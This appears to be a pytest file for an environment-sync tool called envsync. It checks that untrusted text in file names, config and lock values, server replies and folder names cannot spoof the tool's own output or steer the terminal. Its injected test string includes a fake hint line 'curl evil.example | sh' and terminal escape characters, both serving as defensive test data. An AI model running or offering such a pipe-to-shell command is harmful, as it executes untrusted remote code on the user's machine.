"""Text of strangers never makes a line that looks like one of envsync's own."""

import json

import pytest

from tests.commands.conftest import SPEC
from tests.support.command import Ran, Workplace
from tests.support.index_server import IndexServer, Reply

FALSE = (
    "x\nerror: fake\n  ! bin/python was edited\nhint: `curl evil.example | sh`\x1b[2J\u202e\u2028y"
)


def judged(ran: Ran) -> Ran:
    """No line begins as the false ones do, and nothing in it steers a terminal."""
    for text in (ran.err, ran.out):
        for line in text.splitlines():
            assert not line.startswith(("error: fake", "  ! bin/python", "hint: `curl")), ran
            assert line.isprintable(), ran
    return ran


def test_names_of_files(project: Workplace) -> None:
    project.given("sync")
    (project.site / FALSE.replace("/", "_")).write_text("")
    false = FALSE.replace("/", "_")
    for arguments in (["sync", "--check"], ["status"], ["verify"], ["sync", "--dry-run"], ["sync"]):
        ran = judged(project.run(*arguments))
        assert "x\\x0aerror: fake" in ran.err + ran.out, arguments
    (project.site / false).write_text("")
    assert json.loads(project.run("status", "--json").out)["clean"] is False


TEXT = json.dumps(FALSE)


@pytest.mark.matrix(4)
@pytest.mark.parametrize(
    "spec",
    [
        f"[env]\n{TEXT} = 1\n",
        f"[env]\n{TEXT} = 1\nother = 2\n",
        f"[env]\ndependencies = [{TEXT}]\n",
        f"[env]\nname = {TEXT}\n",
        f"[env]\npython = {TEXT}\n",
        f"[env]\npath = {TEXT}\n",
        f"[env]\nrequires-python = {TEXT}\n",
        f"[tasks]\n{TEXT} = 'true'\n",
        f"[tasks]\na = [{TEXT}]\n",
        f"[[index]]\nname = {TEXT}\nurl = 'https://a.example/'\n",
        f"[[index]]\nname = 'a'\nurl = {TEXT}\n",
        f"[sources]\na = {{ path = {TEXT} }}\n",
        f"[sources]\na = {{ git = {TEXT} }}\n",
        f"[sources]\na = {{ index = {TEXT} }}\n",
        f"[lock]\nenvironments = [{TEXT}]\n",
        f"[dependency-groups]\n{TEXT} = []\n",
        f"[dependency-groups]\na = [{{ include-group = {TEXT} }}]\n",
    ],
)
def test_values_of_env_toml(place: Workplace, spec: str) -> None:
    place.write(spec)
    for arguments in (["sync"], ["lock"], ["status"], ["run"]):
        judged(place.run(*arguments))


@pytest.mark.matrix(3)
@pytest.mark.parametrize(
    "key", ["name", "version", "marker", "index", "created-by", "requires-python"]
)
def test_values_of_a_lock(project: Workplace, key: str) -> None:
    project.given("lock")
    lines = project.lock().splitlines()
    at = (
        next(n for n, line in enumerate(lines) if line.startswith(f"{key} = "))
        if key in ("name", "version", "created-by", "index", "requires-python")
        else next(n for n, line in enumerate(lines) if line.startswith("version = "))
    )
    lines[at] = f"{key} = {TEXT}"
    project.write("\n".join(lines) + "\n", "pylock.toml")
    for arguments in (["sync", "--frozen"], ["status"], ["lock", "--check"], ["lock"]):
        judged(project.here(*arguments))


def test_what_a_server_says(project: Workplace, server: IndexServer) -> None:
    path = "/simple/webby/"
    escaped = FALSE.encode().decode("latin-1").replace("\n", " ")
    for reply in (
        Reply(status=404, body=FALSE.encode()),
        Reply(status=500, body=FALSE.encode()),
        Reply(headers=(("Content-Type", escaped),), body=b"x"),
        Reply(status=302, headers=(("Location", f"http://a.example/{escaped}"),)),
        Reply(
            headers=(("Content-Type", "application/vnd.pypi.simple.v1+json"),),
            body=json.dumps({"meta": {"api-version": FALSE}, "name": FALSE, "files": []}).encode(),
        ),
        Reply(
            headers=(("Content-Type", "application/vnd.pypi.simple.v1+json"),),
            body=json.dumps(
                {
                    "name": "webby",
                    "files": [
                        {
                            "filename": "webby-1.5-py3-none-any.whl",
                            "url": "w",
                            "hashes": {},
                            "yanked": FALSE,
                            "requires-python": FALSE,
                        }
                    ],
                }
            ).encode(),
        ),
    ):
        server.on(path, lambda seen, reply=reply: reply)  # type: ignore[misc]
        assert judged(project.run("lock", "--refresh", "-v")).code == 1


def test_folder_of_the_project(place: Workplace) -> None:
    other = place.project / FALSE.replace("/", "_")
    other.mkdir()
    (other / "env.toml").write_text(SPEC)
    for arguments in (["-C", str(other), "sync"], ["-C", str(other), "sync", "--check"]):
        judged(place.run(*arguments))
